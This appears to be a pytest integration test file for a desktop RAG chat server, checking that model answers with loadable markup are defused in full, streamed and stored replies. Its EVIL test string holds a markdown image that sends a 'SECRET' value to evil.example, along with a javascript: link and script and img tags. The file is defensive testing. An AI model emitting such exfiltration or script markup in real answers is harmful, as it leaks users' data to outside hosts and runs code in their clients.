"""Answers of a model with markup that would load something, as clients get them."""

import json
from typing import Any

import pytest

from desktop_rag.app import Services
from desktop_rag.features.server.access.access_tokens import TokenBook, new_token
from desktop_rag.features.server.values.access_values import TokenWish
from tests.integration.serving.conftest import Serve, Server
from tests.servers.chat_server import ChatServer

pytestmark = pytest.mark.usefixtures("one_library")

EVIL = (
    "The lamp is lit at dusk [1]. ![](http://evil.example/?d=SECRET) <img src=x>"
    " [here](javascript:alert(1)) <script>x</script>\n\n```html\n<b>code</b>\n```\n"
)
CALM = EVIL.replace("![", "！[").replace("<img", "＜img").replace("<script", "＜script")  # noqa: RUF001
CALM = CALM.replace("](java", "]（java").replace("</script", "＜/script")  # noqa: RUF001
ASKED = {"model": "desktop-rag", "messages": [{"role": "user", "content": "When is it lit?"}]}


@pytest.fixture
def server(serve: Serve, endpoint: ChatServer) -> Server:
    endpoint.answer = EVIL
    endpoint.piece_chars = 3
    return serve()


def streamed(server: Server) -> str:
    said = ""
    asked: dict[str, Any] = {**ASKED, "stream": True}
    with server.client() as client, client.stream("POST", "/v1/chat/completions", json=asked) as r:
        for line in r.iter_lines():
            if line.startswith("data: {"):
                for choice in json.loads(line[6:])["choices"]:
                    said += choice["delta"].get("content") or ""
    return said


@pytest.mark.slow
def test_nothing_in_an_answer_is_live(server: Server) -> None:
    with server.client() as client:
        whole = client.post("/v1/chat/completions", json=ASKED).json()
    message = whole["choices"][0]["message"]
    assert message["content"] == CALM
    assert message["annotations"][0]["url_citation"]["start_index"] == CALM.index("[1]")
    assert streamed(server) == CALM


@pytest.mark.slow
def test_a_stored_conversation_is_inert_too(server: Server) -> None:
    asked = {"question": "When is it lit?", "conversation": "new"}
    with server.client() as client:
        answer = client.post("/api/v1/ask", json=asked).json()
        kept = client.get(f"/api/v1/conversations/{answer['conversation_id']}").json()
    assert answer["text"] == CALM
    assert kept["messages"][-1]["text"] == CALM


@pytest.mark.slow
def test_a_token_may_get_the_markup(server: Server, indexed: Services) -> None:
    token, secret = new_token(TokenWish("raw", ("ask",), passes_markup=True))
    TokenBook(indexed.home.tokens).add(token)
    with server.client(secret) as client:
        whole = client.post("/v1/chat/completions", json=ASKED).json()
    assert whole["choices"][0]["message"]["content"] == EVIL
